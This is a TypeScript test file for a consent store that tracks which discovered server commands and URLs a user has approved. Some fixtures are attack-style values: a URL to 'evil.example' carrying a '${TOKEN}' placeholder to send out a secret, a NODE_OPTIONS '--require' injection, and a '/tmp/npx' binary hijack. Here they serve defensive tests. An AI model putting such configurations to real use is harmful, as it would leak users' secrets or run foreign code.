import {mkdtemp, readFile, rm, stat, writeFile} from 'node:fs/promises';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterEach, beforeEach, expect, test} from 'vitest';
import {rememberConsent, withoutConsent} from '../../source/commands/consent.ts';
import type {FoundTarget} from '../../source/discover/found.ts';
import {unify} from '../../source/discover/unify.ts';
import {hash} from '../discover/fixture-home.ts';

let folder: string;
let outside: Parameters<typeof withoutConsent>[1];
beforeEach(async () => {
	folder = await mkdtemp(join(tmpdir(), 'langsight-consent-'));
	outside = {env: {XDG_STATE_HOME: folder}} as unknown as typeof outside;
});
afterEach(() => rm(folder, {recursive: true, force: true}));

const known = (...targets: readonly FoundTarget[]) =>
	unify(
		targets.map((target, at) => ({name: `s${at}`, client: 'cursor', file: 'x', isEnabled: true, target, notes: []})),
		hash,
	);

const run = (command: string, args: readonly string[] = [], env: Record<string, string> = {}): FoundTarget => ({
	transport: 'stdio',
	command,
	args,
	env,
	hiddenEnv: [],
	cwd: null,
});

test('what was agreed to once is not asked again; anything else about it is', async () => {
	const agreed = known(run('npx', ['-y', 'a'], {TOKEN: 'geheim'}));
	expect(await withoutConsent(agreed, outside)).toHaveLength(1);
	await rememberConsent(agreed, outside);
	expect(await withoutConsent(agreed, outside)).toEqual([]);
	for (const other of [
		run('npx', ['-y', 'b'], {TOKEN: 'geheim'}),
		run('npx', ['-y', 'a'], {TOKEN: 'geheim', NODE_OPTIONS: '--require=/x.js'}),
		run('/tmp/npx', ['-y', 'a'], {TOKEN: 'geheim'}),
	])
		expect(await withoutConsent(known(other), outside)).toHaveLength(1);
});

test('an address is agreed to as well: it may be sent variables', async () => {
	const there = known({transport: 'sse', isCertain: true, url: 'http://evil.example/?t=$' + '{TOKEN}', headers: {}});
	expect(await withoutConsent(there, outside)).toHaveLength(1);
	await rememberConsent(there, outside);
	expect(await withoutConsent(there, outside)).toEqual([]);
});

test('the file is its owner’s alone, holds no secret, and is asked for anew when it is broken', async () => {
	const agreed = known(run('x', [], {TOKEN: 'geheim'}));
	await rememberConsent(agreed, outside);
	const path = join(folder, 'langsight', 'consent.json');
	expect((await stat(path)).mode & 0o777).toBe(0o600);
	expect(await readFile(path, 'utf8')).not.toContain('geheim');
	for (const broken of ['{', '[]', '{"contents": [1, {}]}', 'null']) {
		await writeFile(path, broken);
		expect(await withoutConsent(agreed, outside)).toHaveLength(1);
	}
	await rememberConsent(agreed, outside);
	expect(await withoutConsent(agreed, outside)).toEqual([]);
});
